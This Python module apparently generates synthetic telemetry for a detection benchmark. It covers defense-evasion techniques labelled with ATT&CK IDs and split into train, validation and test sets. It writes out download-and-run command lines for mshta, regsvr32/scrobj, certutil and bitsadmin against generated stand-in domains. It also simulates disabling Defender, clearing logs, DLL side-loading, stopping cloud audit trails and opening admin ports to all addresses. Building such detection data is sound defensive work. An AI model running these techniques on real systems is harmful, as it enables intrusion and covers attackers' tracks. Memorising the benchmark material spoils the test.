"""Defense evasion: signed programs that run foreign code, threads in others, blinded sensors and trails."""

from __future__ import annotations

from schema import CLOUD_WORK
from tasks.families.story import answer, choose_halves, launch, trail, write
from tasks.paths import BROWSERS, EXPLORER, SYSTEM32
from tasks.scene import ADDRESS, HOST, TOOL, Family, Plan, Scene, TicketScope, actor, other_account


def proxy_program(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how a signed system program fetches or runs foreign code."""
    site = f"http://{scene.domain()}/{scene.word()}"
    tool, bad, good = scene.pick(
        (
            ("mshta.exe", f"{site}.hta", "C:\\Apps\\Kiosk\\start.hta"),
            ("regsvr32.exe", f"/s /n /u /i:{site}.sct scrobj.dll", "/s C:\\Windows\\System32\\msxml6.dll"),
            ("certutil.exe", f"-urlcache -split -f {site}.bin", "-store my"),
            ("bitsadmin.exe", f"/transfer job /download {site} C:\\ProgramData\\x.bin", "/list /allusers"),
        )
    )
    who, at = actor(scene, plan, tool), scene.moment(200)
    parent = scene.pick((SYSTEM32 + "cmd.exe", "C:\\Windows\\explorer.exe", SYSTEM32 + "svchost.exe"))
    launch(scene, at, who, SYSTEM32 + tool, f"{tool} {good if plan.strength == 'below' else bad}", parent)
    return who.scope(tool, at, answer(scene, at, who, SYSTEM32 + tool, plan))


def injected_thread(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how a program runs a thread in another program."""
    who, at = actor(scene, plan), scene.moment(60)
    path = {
        "confirmed": scene.writable_path(who.user),
        "suspicious": f"D:\\Tools\\{scene.word()}.exe",
        "below": scene.installed_path(),
    }[plan.strength]
    target = SYSTEM32 + scene.pick(("svchost.exe", "notepad.exe", "spoolsv.exe", "explorer.exe"))
    scene.add(at, "process_inject", "remote_thread", who.host, who.user, process_path=path, target_path=target)
    return who.scope(path, at, at)


def blinded_sensor(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how somebody switches off the anti-virus and starts a program; in half of the story, it had started before."""
    who, at = actor(scene, plan), scene.moment(1200) + 500
    value = scene.pick(("real-time protection off", "disabled", f"exclusion C:\\Users\\{who.user}"))
    if plan.strength == "below":
        value = "signatures updated"
    scene.add(
        at,
        "control_change",
        "av_setting",
        who.host,
        who.user,
        control_name="Defender",
        new_value=value,
        process_path=SYSTEM32 + "reg.exe",
    )
    later = scene.between(20, 400) * (-1 if plan.strength == "suspicious" else 1)
    start = launch(scene, at + later, who, scene.writable_path(who.user))
    return who.scope("reg.exe", min(at, start), max(at, start))


def wiped_log(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how somebody switches off auditing and clears an event log; in the harmless strength, the system clears it."""
    who, first = actor(scene, plan), scene.moment(500)
    value = "success and failure" if plan.strength == "suspicious" else "off"
    scene.add(first, "control_change", "audit_policy", who.host, who.user, control_name="Logon", new_value=value)
    last = scene.add(
        first + scene.between(10, 300),
        "control_change",
        "log_clear",
        who.host,
        "SYSTEM" if plan.strength == "below" else who.user,
        control_name=scene.pick(("Security", "System", "Application")),
        process_path=SYSTEM32 + "wevtutil.exe",
    )
    return who.scope("wevtutil.exe", first, last)


def planted_library(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how a library is written beside a program that somebody saved, and loaded; in half of the story, another one is written."""
    who, at = actor(scene, plan), scene.moment(600)
    program = scene.writable_path(who.user)
    folder = program[: program.rfind("\\") + 1]
    library = f"{folder}{scene.word()}.dll"
    written = library if plan.strength == "confirmed" else f"{folder}{scene.word()}.dll"
    write(scene, at, who, written, scene.pick((EXPLORER, *BROWSERS)))
    last = scene.add(
        at + scene.between(10, 400),
        "module_load",
        "dll",
        who.host,
        who.user,
        file_path=library,
        signature_state="signed" if plan.strength == "below" else "unsigned",
        process_path=program,
    )
    return who.scope(program, at, last)


# ---------------------------------------------------------------- the cloud
def stopped_trail(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how somebody outside stops the audit trail and makes a key for another account; in half of it, for their own."""
    who, first, source = actor(scene, plan), scene.moment(900), scene.public_address()
    other = other_account(scene, who) if plan.strength == "confirmed" else who.user
    trail(scene, first, who, source, plan.strength != "below")
    last = scene.add(
        first + scene.between(20, 800),
        "account",
        "key_create",
        who.host,
        who.user,
        user_name=other,
        attributes="access key",
        src_ip=source,
    )
    return who.scope(CLOUD_WORK, first, last)


def cloud_door(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how somebody outside stops the audit trail and opens an administration port to every address."""
    who, first, source = actor(scene, plan), scene.moment(900), scene.public_address()
    opened, stopped = choose_halves(scene, plan)
    port = scene.pick((22, 3389, 1433))
    network = "0.0.0.0/0" if opened else f"{scene.public_address()}/32"
    scene.add(
        first,
        "control_change",
        "firewall",
        who.host,
        who.user,
        control_name="AuthorizeSecurityGroupIngress",
        new_value=f'{{"fromPort":{port},"toPort":{port},"cidrIp":"{network}"}}',
        src_ip=source,
    )
    last = trail(scene, first + scene.between(20, 800), who, source, stopped)
    return who.scope(CLOUD_WORK, first, last)


FAMILIES = (
    Family(
        "proxy_program",
        "T1218",
        "defense_evasion",
        proxy_program,
        HOST,
        explanations=TOOL,
        rules=("signed-proxy-execution",),
    ),
    Family(
        "injected_thread",
        "T1055",
        "defense_evasion",
        injected_thread,
        HOST,
        single=True,
        rules=("code-injection",),
        split="test_family",
    ),
    Family("blinded_sensor", "T1562.001", "defense_evasion", blinded_sensor, HOST, rules=("defence-disabled",)),
    Family("wiped_log", "T1070.001", "defense_evasion", wiped_log, HOST, rules=("log-cleared",), split="val_family"),
    Family(
        "planted_library",
        "T1574.002",
        "defense_evasion",
        planted_library,
        HOST,
        rules=("foreign-module",),
    ),
    Family(
        "stopped_trail",
        "T1562.008",
        "defense_evasion",
        stopped_trail,
        ADDRESS,
        rules=("cloud-trail-stopped",),
        platform="cloud",
    ),
    Family(
        "cloud_door",
        "T1562.007",
        "defense_evasion",
        cloud_door,
        ADDRESS,
        rules=("cloud-door-opened", "cloud-trail-stopped"),
        platform="cloud",
        split="test_family",
    ),
)
